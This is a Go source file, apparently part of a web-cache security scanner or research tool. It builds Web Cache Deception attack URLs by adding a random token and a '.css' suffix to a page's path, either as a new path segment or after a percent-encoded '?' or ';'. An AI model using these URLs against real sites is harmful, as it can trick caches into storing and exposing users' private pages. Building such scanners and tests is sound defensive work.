// Package wcd generates Web Cache Deception attack URLs: a base URL
// mutated so a path-based cache rule (e.g. "cache anything ending in
// .css") matches a response that should never have been cacheable.
package wcd

import (
	"fmt"
	"net/url"
	"strings"
)

// Mode is one of the three delimiter strategies tried between the
// original path and the appended static-looking suffix.
type Mode string

const (
	// PathParameter appends /<tok>.css to the path.
	PathParameter Mode = "PATH_PARAMETER"
	// EncodedQuestion appends a percent-encoded '?' before the suffix,
	// so a naive cache rule matching on file extension is fooled while
	// the origin still sees the original path before the '?'.
	EncodedQuestion Mode = "ENCODED_QUESTION"
	// EncodedSemicolon is the same idea with a percent-encoded ';'.
	EncodedSemicolon Mode = "ENCODED_SEMICOLON"
)

// Modes lists every mode the WCD experiment iterates.
var Modes = []Mode{PathParameter, EncodedQuestion, EncodedSemicolon}

// DefaultExtensions is the extension set tried against each mode.
var DefaultExtensions = []string{".css"}

// AttackURL builds one attack URL from baseURL using mode, extension
// and a caller-supplied token (fresh per call — the identicality
// pre-check requires two independently generated attack URLs to be
// distinguishable from each other before they're busted any further).
func AttackURL(baseURL string, mode Mode, extension, token string) (string, error) {
	u, err := url.Parse(baseURL)
	if err != nil {
		return "", fmt.Errorf("parse base url: %w", err)
	}

	suffix := token + extension
	path := u.EscapedPath()

	switch mode {
	case PathParameter:
		if strings.HasSuffix(path, "/") {
			path += suffix
		} else {
			path += "/" + suffix
		}
	case EncodedQuestion:
		path += "%3F" + suffix
	case EncodedSemicolon:
		path += "%3B" + suffix
	default:
		return "", fmt.Errorf("unknown wcd mode %q", mode)
	}

	var b strings.Builder
	b.WriteString(u.Scheme)
	b.WriteString("://")
	b.WriteString(u.Host)
	b.WriteString(path)
	if u.RawQuery != "" {
		b.WriteString("?")
		b.WriteString(u.RawQuery)
	}
	return b.String(), nil
}
